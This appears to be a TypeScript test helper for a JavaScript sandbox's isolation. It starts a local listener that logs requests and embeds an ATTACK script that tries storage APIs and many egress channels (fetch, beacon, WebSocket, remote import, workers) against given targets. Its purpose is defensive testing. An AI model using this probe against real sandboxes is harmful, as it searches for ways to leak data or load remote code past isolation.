import { createServer, type RequestListener } from 'node:http';
import { createServer as createSecureServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import type { EgressAuthority } from '#environment/prefix/egress-tunnels.ts';

/** A server that counts requests, from any origin. */
export interface Listener {
	url: string;
	/** `GET /path`, `UPGRADE /path` … in order of arrival. Tests may clear it. */
	hits: string[];
	close(): Promise<void>;
}

/** @param authority issues certificates for every name: the server then uses `https` */
export async function startListener(authority?: EgressAuthority): Promise<Listener> {
	const hits: string[] = [];
	const answer: RequestListener = (request, response) => {
		hits.push(`${request.method} ${request.url}`);
		response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('hit');
	};
	const server = authority
		? createSecureServer(
				{ SNICallback: (name, done) => void authority.contextFor(name).then((context) => done(null, context), done) },
				answer
			)
		: createServer(answer);
	server.on('connect', (request) => hits.push(`CONNECT ${request.url}`));
	server.on('upgrade', (request, socket) => {
		hits.push(`UPGRADE ${request.url}`);
		socket.destroy();
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	return {
		url: `${authority ? 'https' : 'http'}://127.0.0.1:${(server.address() as AddressInfo).port}`,
		hits,
		close: () => new Promise((resolve) => server.close(() => resolve()).closeAllConnections())
	};
}

/** Number of attempts that {@link ATTACK} makes against this number of targets. */
export const attempts = (targets: number): number => 6 + targets * 9;

/** Runs inside the sandbox, like any program there: tries every way out that a worker has, and storage. */
export const ATTACK = `
const targets = process.argv.slice(2);
const tries = {};
// The browser's own waits keep no program alive.
setInterval(() => {}, 1000);
const attempt = async (name, act) => { try { const value = await act(); tries[name] = 'ok ' + String(value).slice(0, 60); } catch (error) { tries[name] = 'refused'; } };
(async () => {
  const raw = globalThis;
  await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = raw.indexedDB.open('sandglass'); r.onsuccess = () => resolve('open'); r.onerror = () => reject(r.error); }));
  await attempt('localStorage', () => raw.localStorage.length);
  await attempt('opfs', async () => { const d = await raw.navigator.storage.getDirectory(); return d.name; });
  await attempt('caches', () => raw.caches.keys());
  await attempt('cookieStore', () => raw.cookieStore.getAll());
  // Node has a class of that name, which reaches the threads of one program; the browser's would reach other frames.
  await attempt('BroadcastChannel', () => {
    const { postMessage } = raw.BroadcastChannel.prototype;
    if (!Function.prototype.toString.call(postMessage).includes('[native code]')) throw new Error("not the browser's");
    new raw.BroadcastChannel('sandglass-sessions').postMessage(1);
  });
  for (const target of targets) {
    await attempt('fetch ' + target, async () => (await fetch(target + '/fetch')).status);
    await attempt('no-cors ' + target, async () => (await fetch(target + '/no-cors', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })).status);
    await attempt('xhr ' + target, () => new Promise((resolve, reject) => { const x = new raw.XMLHttpRequest(); x.open('GET', target + '/xhr'); x.onload = () => resolve(x.status); x.onerror = reject; x.send(); }));
    await attempt('websocket ' + target, () => new Promise((resolve, reject) => { const w = new raw.WebSocket(target.replace('http', 'ws') + '/ws'); w.onopen = () => resolve('open'); w.onerror = reject; setTimeout(reject, 2000); }));
    await attempt('eventsource ' + target, () => new Promise((resolve, reject) => { const e = new raw.EventSource(target + '/es'); e.onopen = () => resolve('open'); e.onerror = () => { e.close(); reject(); }; }));
    await attempt('importScripts ' + target, () => raw.importScripts(target + '/script.js'));
    await attempt('import ' + target, () => new Function('u', 'return import(u)')(target + '/module.js'));
    await attempt('worker ' + target, () => new Promise((resolve, reject) => { const w = new raw.Worker(target + '/worker.js'); w.onmessage = resolve; w.onerror = reject; setTimeout(reject, 1000); }));
    await attempt('beacon ' + target, () => { if (!raw.navigator.sendBeacon(target + '/beacon', 'x')) throw new Error('no'); });
  }
  console.log(JSON.stringify(tries));
  process.exit(0);
})();
`;
